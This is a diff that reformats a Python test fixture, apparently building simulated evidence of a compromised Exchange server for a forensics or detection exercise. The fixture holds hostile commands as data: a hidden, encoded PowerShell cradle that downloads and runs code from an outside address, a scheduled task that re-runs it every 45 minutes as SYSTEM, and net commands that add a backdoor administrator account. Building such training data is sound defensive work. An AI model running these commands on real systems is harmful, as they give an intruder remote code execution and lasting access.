@@ -10,13 +10,23 @@ from tests.strangers.rendering import hand_in
 from tests.strangers.working import looked_for, working
 
 SERVER = Server(
-    name="BRN-MSG-05", netbios="AARE", dns="aare.corp.example", address="192.0.2.205", seed=205, begins=at("02-25 00:00"),
-    ends=at("03-11 16:00"), builds=((at("01-01 00:00"), (15, 1, 1979, 3)),), hours_a_file=1,
-)  # fmt: skip
+    name="BRN-MSG-05",
+    netbios="AARE",
+    dns="aare.corp.example",
+    address="192.0.2.205",
+    seed=205,
+    begins=at("02-25 00:00"),
+    ends=at("03-11 16:00"),
+    builds=((at("01-01 00:00"), (15, 1, 1979, 3)),),
+)
 FIRST, SECOND = "198.51.100.177", "203.0.113.149"
 SYSTEM32 = "C:\\Windows\\System32\\"
 WORKER = f"{SYSTEM32}inetsrv\\w3wp.exe"
-POOL = f'{WORKER} -ap "MSExchangeECPAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm41'
+POOL = (
+    f'{WORKER} -ap "MSExchangeECPAppPool" -v "v4.0" '
+    '-c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" '
+    "-a \\\\.\\pipe\\iisipm41"
+)
 POWERSHELL = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
 DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.149/update/p?e')"
 ENCODED = base64.b64encode(DOWNLOAD.encode("utf-16-le")).decode()
@@ -25,8 +35,12 @@ TASK_FILE = f"""<?xml version="1.0" encoding="UTF-16"?>
 <Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
   <RegistrationInfo><Date>2021-03-05T19:52:10</Date><Author>AARE\\BRN-MSG-05$</Author><URI>{TASK}</URI></RegistrationInfo>
   <Triggers><TimeTrigger><Repetition><Interval>PT45M</Interval></Repetition><StartBoundary>2021-03-05T19:52:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>
-  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
-  <Actions Context="Author"><Exec><Command>powershell</Command><Arguments>-w hidden -enc {ENCODED}</Arguments></Exec></Actions>
+  <Principals>
+    <Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal>
+  </Principals>
+  <Actions Context="Author">
+    <Exec><Command>powershell</Command><Arguments>-w hidden -enc {ENCODED}</Arguments></Exec>
+  </Actions>
 </Task>
 """
 
@@ -57,10 +71,17 @@ def _commands(gathered: Gathered) -> None:
     lines = (
         (0, shell, f"cmd.exe /c powershell -w hidden -enc {ENCODED}", WORKER, POOL),
         (1, POWERSHELL, f"powershell  -w hidden -enc {ENCODED}", shell, ""),
-        (280, f"{SYSTEM32}schtasks.exe", f'schtasks /create /tn {TASK[1:]} /ru system /sc MINUTE /mo 45 /tr "powershell -w hidden -enc {ENCODED}" /F', POWERSHELL, ""),
+        (
+            280,
+            f"{SYSTEM32}schtasks.exe",
+            f"schtasks /create /tn {TASK[1:]} /ru system /sc MINUTE /mo 45 "
+            f'/tr "powershell -w hidden -enc {ENCODED}" /F',
+            POWERSHELL,
+            "",
+        ),
         (400, net, "net user svc_exmon Winter!2021x /add", POWERSHELL, ""),
         (407, net, "net localgroup administrators svc_exmon /add", POWERSHELL, ""),
-    )  # fmt: skip
+    )
     for seconds, image, line, parent, above in lines:
         when = begun + timedelta(seconds=seconds)
         events.process(gathered, when, image, line, parent, parent_line=above, audited=False, sysmon=True)
@@ -82,7 +103,27 @@ def _commands(gathered: Gathered) -> None:
     gathered.plant("scheduled_task", f"{TASK}: hidden encoded PowerShell every 45 minutes as SYSTEM", task)
     local = "S-1-5-21-190001001-290002002-390003003"
     created = begun + timedelta(seconds=400)
-    blank = ("-", "svc_exmon", "%%1793", "-", "%%1793", "%%1793", "%%1793", "%%1793", "%%1793", "%%1794", "%%1794", "513", "-", "0x0", "0x15", "%%2080 %%2082 %%2084", "%%1793", "-", "%%1797")  # fmt: skip
+    blank = (
+        "-",
+        "svc_exmon",
+        "%%1793",
+        "-",
+        "%%1793",
+        "%%1793",
+        "%%1793",
+        "%%1793",
+        "%%1793",
+        "%%1794",
+        "%%1794",
+        "513",
+        "-",
+        "0x0",
+        "0x15",
+        "%%2080 %%2082 %%2084",
+        "%%1793",
+        "-",
+        "%%1797",
+    )
     security.append(
         Event(created, events.USER_CREATED, ("svc_exmon", SERVER.name, f"{local}-1009", *machine, *blank))
     )
